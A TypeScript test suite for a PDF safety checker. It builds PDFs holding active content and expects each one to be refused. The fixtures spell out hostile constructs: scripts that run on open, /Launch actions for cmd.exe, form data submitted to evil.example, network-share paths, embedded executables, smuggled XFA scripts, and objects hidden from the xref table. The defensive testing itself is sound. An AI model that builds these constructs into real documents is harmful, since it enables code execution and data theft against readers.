import { describe, expect, test } from 'vitest'
import { aPdfOf } from '../testing/pdf.ts'
import { annotation, js, PACKINGS, verdictOn } from './verdict.fixture.ts'

type Parts = Omit<Parameters<typeof aPdfOf>[0], 'packing'>

const xfa = (text: string) => {
  const bytes = Buffer.from(text, 'utf8').toString('latin1')
  return `<< /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
}

const share = '(\\\\\\\\evil\\\\share\\\\film.mp4)'
const screen = '/Type /Annot /Subtype /Screen /Rect [0 0 9 9]'
const clip = (file: string) => `<< /S /MR /C << /S /MCD /CT (video/mp4) /D ${file} >> >>`
const SHARES: [string, Parts][] = [
  [
    'a film',
    { annotation: `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ${share} >> /A true >>` },
  ],
  ['a film of another annotation', { annotation: annotation(`<< /S /Movie /T (film) /Operation /Play >>`) }],
  ['a film that a link plays', { annotation: annotation(`<< /S /Rendition /OP 0 /R ${clip(share)} >>`) }],
  [
    'a film that opening plays',
    { catalogue: `/OpenAction << /S /Rendition /OP 0 /R ${clip(`<< /F ${share} >>`)} >>` },
  ],
  [
    'a film in its list of films',
    { catalogue: `/Names << /Renditions << /Names [(a) ${clip(share)}] >> >>` },
  ],
  [
    'a film whose data is chosen from several',
    {
      annotation: `<< ${screen} /MK << >> >>`,
      objects: [`<< /S /SR /R [<< /S /MR /C << /S /MCD /D << /UF ${share} >> >> >>] >>`],
      catalogue: '/Other 5 0 R',
    },
  ],
  ['a file that something names', { catalogue: `/AF [<< /Type /Filespec /F ${share} /UF ${share} >>]` }],
  [
    'a page of another document',
    {
      catalogue: '/Other 5 0 R',
      objects: [`<< /Subtype /Form /Ref << /F ${share} /Page 0 >> /Length 0 >>\nstream\n\nendstream`],
    },
  ],
]

const ACTIVE: [string, Parts, string][] = [
  ['a script when it is opened', { catalogue: `/OpenAction ${js}` }, 'script'],
  [
    'a script in its list of scripts',
    { catalogue: `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`, objects: [js] },
    'script',
  ],
  ['a script behind a link', { annotation: annotation(js) }, 'script'],
  [
    'a script after another action',
    { annotation: annotation(`<< /S /GoTo /D [3 0 R /Fit] /Next [${js}] >>`) },
    'script',
  ],
  ['a script under an escaped name', { annotation: annotation('<< /S /J#61vaScript /JS (x) >>') }, 'script'],
  [
    'a script in the first of two actions',
    {
      annotation: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${js} /A << /S /URI /URI (https://example.eu/) >> >>`,
    },
    'script',
  ],
  ['a script played with a film', { annotation: annotation('<< /S /Rendition /OP 0 /JS (x) >>') }, 'script'],
  [
    'an action of its own accord',
    { annotation: '<< /Subtype /Widget /FT /Tx /AA << /K << /S /URI /URI (https://a.eu) >> >> >>' },
    'script',
  ],
  ['a program to be started', { annotation: annotation('<< /S /Launch /F (cmd.exe) >>') }, 'action'],
  [
    'a program started when it is opened',
    { catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' },
    'action',
  ],
  [
    'a web page opened with it',
    { catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>' },
    'action',
  ],
  [
    'answers that are sent elsewhere',
    { annotation: annotation('<< /S /SubmitForm /F (https://evil.example/) >>') },
    'action',
  ],
  [
    'a script as an address',
    { annotation: annotation('<< /S /URI /URI (javascript:alert\\(1\\)) >>') },
    'action',
  ],
  ...['https://evil.example/', '//evil/share'].map((uri): [string, Parts, string] => [
    `a web page opened after another action (${uri})`,
    { catalogue: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (${uri}) >> >>` },
    'action',
  ]),
  [
    'a web page opened as the third, in a list',
    {
      catalogue:
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next 5 0 R >>] >>',
      objects: ['<< /S /URI /URI (https://evil.example/) /Next 5 0 R >>'],
    },
    'action',
  ],
  [
    'another file opened after another action',
    { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (a.pdf) /D [0 /Fit] >> >>' },
    'action',
  ],
  [
    'a link to a file of a network',
    { annotation: annotation('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>') },
    'action',
  ],
  ...[
    '\\\\\\\\evil\\\\share',
    'java\\nscript:alert',
    'ftp://a.eu/',
    'https:\\\\\\\\evil',
    ' https://a.eu/',
    'a.html',
    '',
  ].map((uri): [string, Parts, string] => [
    `an address that is none of the web: “${uri}”`,
    { annotation: annotation(`<< /S /URI /URI (${uri}) >>`) },
    'action',
  ]),
  ...SHARES.map(([what, parts]): [string, Parts, string] => [
    `${what} on a share of a network`,
    parts,
    'action',
  ]),
  [
    'a stream that stands in another file',
    { objects: ['<< /Length 0 /F (a.bin) >>\nstream\n\nendstream'], catalogue: '/Metadata 5 0 R' },
    'attachment',
  ],
  [
    'a file inside',
    {
      catalogue: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>'],
    },
    'attachment',
  ],
  [
    'a file pinned to the page',
    { annotation: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>' },
    'attachment',
  ],
  [
    'a film with a program',
    { annotation: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>' },
    'script',
  ],
]

describe.each(PACKINGS)('with its objects %s', (packing) => {
  test('a PDF with links, pages to go to and ordinary names passes', async () => {
    const passing: Parts[] = [
      {},
      { catalogue: '/OpenAction [3 0 R /Fit]' },
      { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' },
      { annotation: annotation('<< /S /URI /URI (mailto:a@example.eu) >>') },
      { annotation: annotation('<< /S /Named /N /NextPage >>') },
      { annotation: annotation('<< /S /GoTo /D (chapter 2) /Next << /S /GoTo /D /End >> >>') },
      { annotation: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest (chapter 2) >>' },
      {
        catalogue:
          '/Names << /Dests << /Names [(chapter 2) [3 0 R /Fit]] >> >> /Dests << /End [3 0 R /Fit] >>',
      },
      { annotation: `<< ${screen} /A << /S /Named /N /NextPage >> >>` },
      { objects: ['<< /Font << /JS 3 0 R /AA 3 0 R /EF 3 0 R >> /S /constructor >>'] },
    ]
    const verdicts = []
    for (const parts of passing) verdicts.push(await verdictOn(aPdfOf({ ...parts, packing })))
    expect(verdicts).toEqual(passing.map(() => 'passes'))
  })

  test.each(ACTIVE)('one with %s is refused', async (_what, parts, found) => {
    expect(await verdictOn(aPdfOf({ ...parts, packing }))).toBe(found)
  })
})

test('what the table hides and a search from the beginning finds is refused', async () => {
  const hidden = `5 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${js} >> endobj\ntrailer << /Root 5 0 R /ID [(a) (a)] >>\n`
  const pdf = aPdfOf({}).toString('latin1')
  const at = pdf.indexOf('xref\n')
  const moved = `${pdf.slice(0, at)}${hidden}${pdf.slice(at)}`.replace(
    /startxref\n\d+/,
    `startxref\n${at + hidden.length}`,
  )
  expect(await verdictOn(Buffer.from(moved, 'latin1'))).toBe('script')
})

describe('a form in XML', () => {
  const form = (text: string) => ({
    catalogue: '/AcroForm << /XFA [(template) 5 0 R] >>',
    objects: [xfa(text)],
  })
  test.each([
    ['with a script', '<template><event><script>x()</script></event></template>', 'script'],
    [
      'that sends what was typed',
      '<t:template><t:submit target="https://evil.example"/></t:template>',
      'script',
    ],
    ['with a script under a prefix with a sign', '<x-f:script contentType="x">x()</x-f:script>', 'script'],
    [
      'with a script under a prefix in another script',
      '<\u03b1\u03b2.1:script>x()</\u03b1\u03b2.1:script>',
      'script',
    ],
    [
      'with words of its own that stand for a script',
      '<!DOCTYPE t [<!ENTITY s "&#60;script>x()&#60;/script>">]><t>&s;</t>',
      'script',
    ],
    ['in letters of two bytes', '\xfe\xff\0<\0s\0c\0r', 'script'],
    ['without either', '<template><field name="description"/></template>', 'passes'],
  ])('%s: %s', async (_what, text, verdict) => {
    expect(await verdictOn(aPdfOf(form(text)))).toBe(verdict)
  })
})
